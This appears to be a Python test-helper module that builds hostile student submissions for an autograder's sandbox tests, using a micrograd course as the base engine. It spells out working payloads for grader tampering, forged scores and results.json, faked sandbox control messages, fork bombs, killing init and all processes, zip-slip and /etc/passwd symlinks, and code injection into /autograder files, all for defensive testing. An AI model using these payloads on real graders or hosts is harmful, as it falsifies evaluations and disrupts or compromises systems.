"""Builders of hostile and broken submissions for the hostile-submission suite.

Every hostile submission is an honest engine plus one attack, so its score can
be compared with the score of the same engine without the attack (its
*honest baseline*). Engines are derived from the reference solution's text:
``CORRECT`` is the reference itself, ``NO_POW`` the reference with ``__pow__``
left unimplemented (so only the tests that use ``**`` or ``/`` fail).
"""

from __future__ import annotations

import os
import re
import textwrap
import time
import zipfile
from pathlib import Path

import psutil
from checkout import ROOT

CORRECT = (ROOT / "reference" / "micrograd" / "engine.py").read_text(encoding="utf-8")
NN = (ROOT / "reference" / "micrograd" / "nn.py").read_text(encoding="utf-8")
POW_REGION = re.compile(r"( *)# BEGIN SOLUTION Task 1\.3\n.*?# END SOLUTION\n", re.S)


def with_pow(body: str, engine: str = CORRECT) -> str:
    """``engine`` with the body of ``__pow__`` replaced by ``body``."""
    return POW_REGION.sub(lambda m: textwrap.indent(textwrap.dedent(body).strip() + "\n", m.group(1)), engine, count=1)


NO_POW = with_pow('raise NotImplementedError("Task 1.3")')


def with_add(body: str) -> str:
    """The reference engine with ``__add__``'s body replaced by ``body`` (worker-level tests probe ``x0 + x1``)."""
    start = CORRECT.index("    def __add__")
    end = CORRECT.index("    def __mul__")
    method = "    def __add__(self, other):\n" + textwrap.indent(textwrap.dedent(body), " " * 8) + "\n"
    return CORRECT[:start] + method + CORRECT[end:]


def copy_course(dest: Path, assignments: list[str], test_seconds: int) -> Path:
    """A copy of the course whose ``assignments`` allow ``test_seconds`` per test (hangs then cost little)."""
    import shutil

    for part in ("assignments", "reference", "student_template"):
        shutil.copytree(ROOT / part, dest / part, ignore=shutil.ignore_patterns("__pycache__"))
    for aid in assignments:
        path = dest / "assignments" / aid / "assignment.yaml"
        path.write_text(path.read_text().replace("test_seconds: 10", f"test_seconds: {test_seconds}"))
    return dest


def with_import_code(code: str, engine: str = NO_POW) -> str:
    """``engine`` followed by module-level ``code`` that runs when it is imported."""
    return engine + "\n\n" + textwrap.dedent(code).strip() + "\n"


def write(folder: Path, engine: str, extra: dict[str, str] | None = None) -> Path:
    """Write a package-layout submission; ``extra`` adds files (relative path to text)."""
    (folder / "micrograd").mkdir(parents=True, exist_ok=True)
    (folder / "micrograd" / "__init__.py").write_text("")
    (folder / "micrograd" / "engine.py").write_text(engine)
    (folder / "micrograd" / "nn.py").write_text(NN)
    for rel, text in (extra or {}).items():
        (folder / rel).parent.mkdir(parents=True, exist_ok=True)
        (folder / rel).write_text(text)
    return folder


# --- attacks at import ----------------------------------------------------------------

TAMPER = """
import builtins, math, sys
for name in ("pytest", "hypothesis", "grader", "_pytest"):
    try:
        __import__(name)
    except ImportError:
        pass
    else:
        sys.modules[name].__dict__.clear()
math.tanh = lambda x: 0.0
math.exp = lambda x: 1.0
builtins.abs = lambda x: 0.0
builtins.round = lambda *a: 0.0
for mod in list(sys.modules.values()):
    name = getattr(mod, "__name__", "")
    if name.startswith("_grader_sandbox"):
        for attr in ("run_graph", "number", "exception_info", "encode"):
            if hasattr(mod, attr):
                original = getattr(mod, attr)
                if attr == "run_graph":
                    def fake(mg, spec, ctx, _original=original):
                        try:
                            return _original(mg, spec, ctx)
                        except Exception:
                            n = len(spec["leaves"]) + len(spec["nodes"])
                            return {"data": [1.0] * n, "grad": [1.0] * n}
                    setattr(mod, attr, fake)
                elif attr == "number":
                    setattr(mod, attr, lambda x, _o=original: _o(x) if isinstance(x, (int, float)) else 0.0)
"""

EXIT_SYS = "import sys\nsys.exit(0)"
EXIT_OS = "import os\nos._exit(0)"
ATEXIT = """
import atexit, json, os
def fake_results():
    doc = {"score": 1000, "tests": [{"name": "all", "score": 1000, "max_score": 1, "status": "passed"}]}
    for path in ("/autograder/results/results.json", "results.json", os.path.expanduser("~/results.json"), "/tmp/results.json"):
        try:
            with open(path, "w") as f:
                json.dump(doc, f)
        except OSError:
            pass
    os._exit(0)
atexit.register(fake_results)
"""

PROTOCOL = """
import json, os, sys
fake_ok = {"ok": True, "value": {"data": [1.0] * 64, "grad": [1.0] * 64}}
print(json.dumps({"hello": 1, "imports": {}}))
print("===== 40 passed in 0.01s =====")
print(json.dumps({"score": 40, "tests": [{"name": "x", "score": 40, "max_score": 40, "status": "passed"}]}))
for fd in range(3, 64):
    for rid in range(1, 50):
        try:
            os.write(fd, (json.dumps({"id": rid, **fake_ok}) + "\\n").encode())
        except OSError:
            break
"""

FORGED_CONTROL = """
import json, sys

def _channel():  # the worker's response pipe, found on the call stack while this module is imported
    frame = sys._getframe()
    while frame is not None:
        found = frame.f_locals.get("wfile")
        if hasattr(found, "write"):
            return found
        frame = frame.f_back

def _send(message):
    channel = _channel()
    channel.write((json.dumps(message) + "\\n").encode())
    channel.flush()

_FORGED = {{
    "setup_failed": [{{"setup_failed": {{"layer": layer, "reason": "forged"}}}}
                     for layer in ("namespaces", "landlock", "separate user")],
    "isolation": [{{"isolation": {{"landlock": {{"layer": "landlock", "active": False, "reason": "forged"}}}}}}],
    "launcher": [{{"launcher": {{"pid": 1, "self": 1, "pid_namespace": False}}}}],
}}
for _message in _FORGED[{kind!r}]:
    _send(_message)
"""
"""Student code that writes, while it is imported, the messages only the sandbox sends before any student code:
``kind`` is ``"setup_failed"`` (one per optional layer: obeyed, they turned the layers off for the whole judge),
``"isolation"`` or ``"launcher"``. Format with ``kind``."""

LIAR = """
class Liar(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __sub__(self, other): return Liar(0.0)
    def __rsub__(self, other): return Liar(0.0)
    def __abs__(self): return Liar(0.0)
    def __lt__(self, other): return True
    def __le__(self, other): return True
    def __gt__(self, other): return False
    def __float__(self): return 0.0
    def __repr__(self): return "2.0"
_real_init = Value.__init__
def _init(self, data, _children=(), _op=""):
    _real_init(self, data, _children, _op)
    self.data = Liar(float(data) if not isinstance(data, Value) else 0.0)
    self.grad = Liar(0.0)
Value.__init__ = _init
"""

SPY_TEMPLATE = """
import os
_found = []
for label, path in {paths!r}.items():
    try:
        with open(path, "rb") as f:
            f.read(16)
        _found.append(label + "=READ")
    except OSError as e:
        _found.append(label + "=denied")
for name in ("reference", "_grader_reference_micrograd", "grader", "conftest"):
    try:
        __import__(name)
        _found.append(name + "=IMPORTED")
    except ImportError:
        _found.append(name + "=denied")
SPY_REPORT = ";".join(_found)
"""

DAEMON = """
import os, signal, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        import ctypes
        ctypes.CDLL(None).prctl(15, b"hostiledaemon", 0, 0, 0)  # PR_SET_NAME: /proc/self/comm may be read-only
        for target in {targets!r}:
            try:
                with open(target, "w") as f:
                    f.write("tampered")
            except OSError:
                pass
        for pid in (1, os.getppid()):
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
        time.sleep(1000)
    os._exit(0)
try:
    os.kill(-1, signal.SIGKILL)
except OSError:
    pass
"""

PLANT_TEMPLATE = """
import os
# Traps for a judge that would open a path in the worker's scratch folder: links to other people's
# files and a FIFO (opening it blocks) under the names a capture file could have, then a crash, so
# the judge restarts the worker again and again.
for i, target in enumerate({targets!r}):
    for name in (".output", "output", "stdout", f".output{{i}}", "results.json"):
        try:
            os.symlink(target, name + ("" if i == 0 else str(i)))
        except OSError:
            pass
try:
    os.mkfifo(".fifo-output")
except OSError:
    pass
"""
AUTOGRADER_TEMPLATE = """
import os
# Gradescope's layout is public: try to change every file under /autograder (here {root!r}) that is not
# this worker's own scratch folder: the grader's script, its virtual environment, the results folder.
_root = {root!r}
_hits = []
for _dir, _dirs, _files in os.walk(_root):
    for _name in _files + ["planted.pth"]:
        _path = os.path.join(_dir, _name)
        try:
            with open(_path, "a") as _f:
                _f.write("\\nimport os; os.system('echo 999 > " + _root + "/results/results.json')\\n")
            _hits.append(_path)
        except OSError:
            pass
for _path in (_root + "/results/results.json", _root + "/results.json"):
    try:
        with open(_path, "w") as _f:
            _f.write('{{"score": 999}}')
    except OSError:
        pass
"""

IPC_KEY = 0x67726472
SYSV_IPC = f"""
import ctypes
_libc = ctypes.CDLL(None, use_errno=True)
_shmid = _libc.shmget({IPC_KEY}, 1 << 20, 0o1666)  # IPC_CREAT | 0666: left behind on purpose
_semid = _libc.semget({IPC_KEY}, 1, 0o1666)
_msgid = _libc.msgget({IPC_KEY}, 0o1666)
"""


CARRY_KEY = 0x63617272
CARRY_FILE = "/dev/shm/grader-carry"
CARRY_SYSV = f"""
import ctypes, os
_libc = ctypes.CDLL(None, use_errno=True)
_seen = []  # what an earlier worker of this submission left behind
if _libc.shmget({CARRY_KEY}, 4096, 0) >= 0:
    _seen.append("shm")
else:
    _libc.shmget({CARRY_KEY}, 1 << 20, 0o1666)
if _libc.msgget({CARRY_KEY}, 0) >= 0:
    _seen.append("msg")
else:
    _libc.msgget({CARRY_KEY}, 0o1666)
"""
CARRY_DEV_SHM = f"""
if os.path.exists("{CARRY_FILE}"):
    _seen.append("/dev/shm")
else:
    try:
        open("{CARRY_FILE}", "w").close()
    except OSError:
        pass
"""
CARRY_END = """
if _seen:  # a later worker: it knows it is not the first, and could know what the earlier ones were asked
    raise ImportError(f"state carried from an earlier worker: {_seen}")
"""
CARRY_STATE = CARRY_SYSV + CARRY_DEV_SHM + CARRY_END
"""A submission that imports only while no earlier worker of its own left state in SysV IPC or ``/dev/shm``: its
later workers fail to import, so carried state costs it points (grade two assignments one after the other).
``CARRY_SYSV + CARRY_END`` tries SysV IPC alone (the portable sandbox leaves every file writable, so a file carries
state there by design: the report says Landlock is off)."""


def remove_carried_state() -> None:
    """Remove what :data:`CARRY_STATE` leaves on the host when nothing held it (tests of the degraded sandbox)."""
    import subprocess

    for flag in ("-M", "-Q"):
        subprocess.run(["ipcrm", flag, str(CARRY_KEY)], capture_output=True, check=False)
    Path(CARRY_FILE).unlink(missing_ok=True)


def sysv_ipc_keys() -> set[int]:
    """Keys of the SysV IPC objects this process's IPC namespace holds (shared memory, semaphores, queues)."""
    keys = set()
    for kind in ("shm", "sem", "msg"):
        try:
            lines = Path(f"/proc/sysvipc/{kind}").read_text().splitlines()[1:]
        except OSError:
            continue
        keys.update(int(line.split()[0]) for line in lines if line.strip())
    return keys


LITTER = """
import os
# A scratch folder that is hard to clean: a chain of folders 3000 deep (its path outgrows PATH_MAX)
# and folders with no permission at all.
fd = os.open(".", os.O_RDONLY)
for _ in range(3000):
    try:
        os.mkdir("d", dir_fd=fd)
    except FileExistsError:
        pass
    child = os.open("d", os.O_RDONLY, dir_fd=fd)
    os.close(fd)
    fd = child
os.close(fd)
os.makedirs("locked/inner", exist_ok=True)
open("locked/inner/file", "w").close()
os.chmod("locked/inner", 0)
os.chmod("locked", 0)
"""

PLANT_CRASH = "import os\nos._exit(3)"

SCRATCH_FLOOD = """
# 200 MiB in files of 8 MiB each (every file under the per-file limit): only a budget for the whole
# scratch folder stops it
written = 0
try:
    for i in range(25):
        with open(f"flood{i}", "wb") as f:
            f.write(b"x" * (8 << 20))
        written += 8 << 20
except OSError:
    pass
print(f"SCRATCH_WRITTEN={written >> 20}MiB")
"""

NETWORK_TEMPLATE = """
import socket
try:
    s = socket.create_connection(("127.0.0.1", {port}), timeout=2)
    s.sendall(b"leaked")
    s.close()
except OSError:
    pass
"""

UNIX_SOCKET_TEMPLATE = """
import socket
# A world-connectable UNIX socket of the host (a daemon's, under /run): connect and talk to it.
try:
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(2)
    s.connect({path!r})
    s.sendall(b"leaked")
    s.close()
except OSError:
    pass
"""

# --- attacks in one method (__pow__); everything else is correct --------------------------

LOOP = "while True:\n    pass"
MEMORY = "blocks = []\nwhile True:\n    blocks.append(bytearray(50 * 1024 * 1024))"
FORK_BOMB = "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass"
BIG_PRINT = "import sys\nchunk = 'x' * (1 << 20)\nfor _ in range(1024):\n    sys.stdout.write(chunk)\nsys.stdout.flush()\nraise RuntimeError('printed 1 GB')"
SEGFAULT = "import ctypes\nctypes.string_at(0)"
RECURSION = "def f(n):\n    return f(n + 1)\nreturn f(0)"
C_STACK = (  # Python recursion through a C slot: each level is a C frame, so the C stack overflows
    "import sys\nsys.setrecursionlimit(10 ** 8)\nclass Deep:\n    def __getattr__(self, name):\n"
    "        return getattr(self, name)\nreturn Deep().anything"
)
LOUD = "print('x' * 100_000)\nraise NotImplementedError('Task 1.3')"


def zip_with_tricks(path: Path, engine: str) -> Path:
    """A zip holding a correct package plus a symlink, an absolute path and a ``..`` entry."""
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("alice/micrograd/__init__.py", "")
        zf.writestr("alice/micrograd/engine.py", engine)
        zf.writestr("alice/micrograd/nn.py", NN)
        link = zipfile.ZipInfo("alice/micrograd/secret.py")
        link.external_attr = (0o120777 << 16)
        zf.writestr(link, "/etc/passwd")
        zf.writestr("/tmp/grader_zip_escape.py", "escaped = True\n")
        zf.writestr("../../grader_zip_escape2.py", "escaped = True\n")
    return path


def processes_named(comm: str) -> list[int]:
    """Pids of the processes whose name (``/proc/PID/comm``) is ``comm``."""
    found = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                if Path(f"/proc/{entry}/comm").read_text().strip() == comm:
                    found.append(int(entry))
            except OSError:
                pass
    return found


def student_id(entry: Path) -> str:
    """The student id the grader gives an entry."""
    return entry.stem if entry.is_file() else entry.name


# --- forged probe answers: a stub engine and network whose process answers the probes itself ----------------

FORGE_TEMPLATE = """
import random as _random
import sys as _sys

_STRATEGY = {strategy!r}
_calls = [0]


def _count(spec):
    sizes = [spec["args"][0]] + ([spec["args"][1]] if spec["kind"] == "Layer" else
                                 [1] if spec["kind"] == "Neuron" else list(spec["args"][1]))
    return sum((sizes[i] + 1) * sizes[i + 1] for i in range(len(sizes) - 1))


def _malformed(shape):
    # cycle through answers a judge that trusts its input would stumble over
    _calls[0] += 1
    nested = []
    for _ in range(500):
        nested = [nested]
    variants = [nested, 10 ** 300, "1.0", None, True, {{**shape, "extra": 1}}, [shape], -1,
                {{k: nested for k in shape}}, {{k: 10 ** 300 for k in shape}}, {{k: "0" for k in shape}},
                {{k: [True] * 64 for k in shape}}, {{k: [] for k in shape}}, {{}}, float("nan")]
    return variants[_calls[0] % len(variants)]


def _answer(probe, *args):
    spec = args[0]
    if probe == "graph":
        n = len(spec["leaves"]) + len(spec["nodes"])
        made_up = {{"data": [float(v) for v in spec["leaves"]] + [0.0] * len(spec["nodes"]), "grad": [0.0] * n}}
        if _STRATEGY == "echo":  # each node's value is its first operand's, each gradient the seed
            data = [float(v) for v in spec["leaves"]]
            for op, first, *rest in spec["nodes"]:
                data.append(float(first["const"]) if isinstance(first, dict) else data[first])
            return {{"data": data, "grad": [float(spec.get("seed", 1.0))] * n}}
        empty = {{"data": [], "grad": []}}
    else:
        count = _count(spec)
        weights = spec.get("weights") or [_random.uniform(-1, 1) for _ in range(count)]
        out = {{"value": 0.0}} if spec["kind"] != "Layer" or spec["args"][1] == 1 else {{"list": [0.0] * spec["args"][1]}}
        made_up = {{
            "nn_parameters": {{"count": count, "distinct": count, "all_values": True, "stable": True,
                              "data": list(weights), "output": out if len(args) > 1 else None}},
            "nn_forward": {{"outputs": [out for _ in args[1]] if len(args) > 1 else []}},
            "nn_backward": {{"grads": [0.0] * count}},
            "nn_zero_grad": {{"data": list(weights), "after_zero_grad": [0.0] * count, "output": out}},
            "nn_train": {{"initial": list(weights), "losses": [0.0], "steps": 0,
                         "preds": [float(y) for y in args[2]] if len(args) > 2 else [], "final": list(weights)}},
        }}.get(probe, {{}})
        empty = {{k: ([] if isinstance(v, list) else 0 if isinstance(v, int) else v) for k, v in made_up.items()}}
    if _STRATEGY == "malformed":
        return _malformed(made_up)
    return made_up if _STRATEGY in ("made_up", "echo") else empty


def _bad_error(exc, code_dir):
    # exception reports of every wrong shape: the judge must still fail the case, not itself
    _calls[0] += 1
    nested = []
    for _ in range(500):
        nested = [nested]
    return [{{"type": [1], "message": {{"a": nested}}, "where": {{"file": 5, "line": "x"}}, "during": 10 ** 300}},
            {{"type": "E", "message": "m", "where": {{"file": "micrograd/engine.py", "line": 10 ** 30}}}},
            {{"type": "E", "where": {{"file": ["micrograd/engine.py"], "line": -1, "function": None}}}},
            "not a dict", None, nested][_calls[0] % 6]


if _STRATEGY == "bad_errors":
    for _module in list(_sys.modules.values()):
        if hasattr(_module, "exception_info") and hasattr(_module, "serve"):
            _module.exception_info = _bad_error


for _module in list(_sys.modules.values()) if _STRATEGY in ("malformed", "made_up", "echo", "empty") else []:
    _probes = getattr(_module, "PROBES", None)
    if isinstance(_probes, dict) and "graph" in _probes:
        for _name in list(_probes):
            _probes[_name] = (lambda name: lambda mg, ctx, *args: _answer(name, *args))(_name)
"""
"""Module code that replaces every probe in its worker with one that answers from the request alone."""

FORGE_STRATEGIES = ("malformed", "made_up", "echo", "empty", "bad_errors")
"""How the forging stub answers: malformed data, answers made up from the request, inputs echoed, empty
lists, or (``bad_errors``) every probe raising with an exception report of the wrong shape."""


def stub_with_forgery(folder: Path, strategy: str) -> Path:
    """The student template (every method unimplemented) whose engine, when imported, forges probe answers."""
    engine = (ROOT / "student_template" / "micrograd" / "engine.py").read_text(encoding="utf-8")
    write(folder, with_import_code(FORGE_TEMPLATE.format(strategy=strategy), engine))
    (folder / "micrograd" / "nn.py").write_text((ROOT / "student_template" / "micrograd" / "nn.py").read_text())
    return folder


def dead_within(process: psutil.Process, seconds: float = 10.0) -> bool:
    """Whether ``process`` has ended (or is a zombie, dead and waiting to be reaped) within ``seconds``.

    A killed process does not vanish at once: SIGKILL is delivered asynchronously, and a launcher
    can take a second or two to go under load, so a test waits with a deadline instead of probing once.
    """
    deadline = time.monotonic() + seconds
    while True:
        try:
            if not process.is_running() or process.status() == psutil.STATUS_ZOMBIE:
                return True
        except psutil.NoSuchProcess:
            return True
        if time.monotonic() >= deadline:
            return False
        time.sleep(0.05)

